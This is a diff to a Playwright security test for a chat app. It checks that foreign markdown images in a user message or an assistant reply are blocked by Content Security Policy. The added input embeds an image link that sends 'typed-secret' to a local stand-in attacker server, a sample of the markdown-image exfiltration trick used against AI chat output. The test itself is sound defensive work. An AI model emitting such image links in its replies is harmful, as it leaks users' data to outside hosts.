@@ -339,7 +339,9 @@ class _Attacker:
         self.server.server_close()
 
 
-def test_a_reply_with_a_foreign_image_fetches_nothing_in_chromium(open_app: AppProcess, backend: OpenAIServer) -> None:
+def test_foreign_images_in_a_message_or_a_reply_fetch_nothing_in_chromium(
+    open_app: AppProcess, backend: OpenAIServer
+) -> None:
     if not Path(CHROMIUM).is_file():
         pytest.fail(f"{CHROMIUM} missing: scripts/test.sh installs Debian's chromium")
     from playwright.sync_api import sync_playwright
@@ -360,16 +362,18 @@ def test_a_reply_with_a_foreign_image_fetches_nothing_in_chromium(open_app: AppP
             )
             page.goto(open_app.url)
             page.wait_for_selector("#welcome-screen", timeout=30_000)
-            page.fill("#chat-input", "check the status")
+            typed = f"check the status ![mine](http://127.0.0.1:{attacker.port}/user.gif?q=typed-secret)"
+            page.fill("#chat-input", typed)  # a user message renders markdown too
             page.wait_for_selector("#chat-submit:not([disabled])", timeout=10_000)
             page.click("#chat-submit")
             page.wait_for_selector(f'[data-step-type="assistant_message"] img[src*="{attacker.port}"]', timeout=30_000)
-            # Either the browser fetched it (the image completes) or CSP blocked it (a violation event).
-            page.wait_for_function(
-                f"() => window.__csp.some(v => v.includes('{attacker.port}'))"
-                f" || [...document.images].some(i => i.src.includes('{attacker.port}') && i.complete && i.naturalWidth > 0)",
-                timeout=30_000,
-            )
+            # For each image: either the browser fetched it (it completes) or CSP blocked it (a violation event).
+            for name in ("user.gif", "leak.gif"):
+                page.wait_for_function(
+                    f"() => window.__csp.some(v => v.includes('{name}'))"
+                    f" || [...document.images].some(i => i.src.includes('{name}') && i.complete && i.naturalWidth > 0)",
+                    timeout=30_000,
+                )
             violations = page.evaluate("window.__csp")
             page_violations = [
                 v
@@ -380,7 +384,8 @@ def test_a_reply_with_a_foreign_image_fetches_nothing_in_chromium(open_app: AppP
     finally:
         attacker.close()
     assert attacker.seen == [], f"the browser fetched {attacker.seen}"
-    assert any(v.startswith("img-src") and str(attacker.port) in v for v in violations), violations
+    for name in ("user.gif", "leak.gif"):
+        assert any(v.startswith("img-src") and name in v for v in violations), violations
     assert page_violations == [], f"the page itself broke the policy: {page_violations}"
 
 
